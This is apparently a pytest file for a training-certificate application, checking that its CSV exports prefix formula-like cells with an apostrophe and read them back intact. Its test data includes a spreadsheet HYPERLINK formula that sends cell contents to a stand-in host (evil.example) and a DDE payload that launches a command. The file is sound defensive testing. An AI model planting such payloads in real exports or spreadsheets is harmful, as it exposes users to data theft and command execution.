"""Every CSV Lifeline writes defuses cells a spreadsheet would run as a formula (API-2.md §1)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import select

from app.models import Certificate
from app.services.records import csv_cells, exporting, importing, osha, reports
from app.services.verification import bulk_checks
from tests import factories
from tests.support import databases

NOW = datetime(2026, 11, 23, 15, 0, tzinfo=UTC)
TODAY = date(2026, 11, 23)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
BBP_TOPICS = 1 << 5


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=x"])
def test_a_formula_start_gets_a_leading_apostrophe_and_reads_back(text):
    assert csv_cells.defused(text) == "'" + text
    assert csv_cells.restored(csv_cells.defused(text)) == text


@pytest.mark.parametrize("value", ["Ann Lee", "O'Brien", "'quoted'", "", 42, None, 83.3])
def test_ordinary_cells_are_written_as_they_are(value):
    expected = "" if value is None else str(value)
    assert csv_cells.defused(value) == expected
    assert csv_cells.restored(expected) == expected


def test_the_certificate_export_defuses_a_formula_name_and_imports_it_back(db):
    course = factories.CourseFactory(code="BLS")
    holder = factories.learner(email="eve@example.org", full_name=FORMULA_NAME)
    factories.CertificateFactory(code="EVIL-1", holder=holder, course=course,
                                 holder_name=FORMULA_NAME, issued_on=date(2025, 1, 10),
                                 instructor_name="@instructor", revoked_at=NOW,
                                 revoked_reason="-refunded")
    first = "".join(exporting.export_csv(db.session, today=TODAY))
    [row] = rows_of(first)
    assert row["holder_name"] == "'" + FORMULA_NAME
    assert row["instructor_name"] == "'@instructor" and row["revoked_reason"] == "'-refunded"

    databases.wipe(db)
    factories.CourseFactory(code="BLS")
    plan, summary = importing.import_text(db.session, io.StringIO(first), actor=None, now=NOW,
                                          today=TODAY, training_center="Lifeline Training Center")
    assert plan.errors == [] and summary.imported == 1
    certificate = db.session.scalars(select(Certificate)).one()
    assert certificate.holder_name == FORMULA_NAME
    assert "".join(exporting.export_csv(db.session, today=TODAY)) == first


def test_the_osha_record_defuses_attendee_and_trainer_names(db):
    course = factories.CourseFactory(code="BBP", family="bloodborne_pathogens",
                                     topics_mask=BBP_TOPICS, validity_months=12,
                                     description="=cmd|' /C calc'!A0")
    trainer = factories.instructor(full_name="+Trainer")
    class_session = factories.ClassSessionFactory(
        course=course, instructor=trainer, status="completed", location="@Room",
        starts_at=datetime(2026, 10, 5, 13, 0, tzinfo=UTC),
        ends_at=datetime(2026, 10, 5, 14, 30, tzinfo=UTC))
    factories.EnrollmentFactory(session=class_session, status="passed",
                                learner=factories.learner(full_name=FORMULA_NAME,
                                                          job_title="-Nurse"))
    text = osha.as_csv(osha.training_records(db.session, "UTC", session_id=class_session.id))
    [row] = rows_of(text)
    assert row["attendee_name"] == "'" + FORMULA_NAME
    assert row["attendee_job_title"] == "'-Nurse"
    assert row["trainer_name"] == "'+Trainer" and row["location"] == "'@Room"
    assert row["contents_summary"].startswith("'=")


def test_a_report_csv_defuses_a_formula_course_code():
    report = reports.Report("outcomes", "t", ("course_code", "pass_rate_percent"),
                            [("=BAD()", 50.0), ("BLS", None)])
    assert reports.as_csv(report) == "course_code,pass_rate_percent\n'=BAD(),50.0\nBLS,\n"


def test_employer_downloads_use_the_same_rule():
    assert bulk_checks.to_csv(("name",), [(FORMULA_NAME,)]) == (
        "name\r\n" + csv_cells.defused(FORMULA_NAME).replace('"', '""').join('""') + "\r\n")
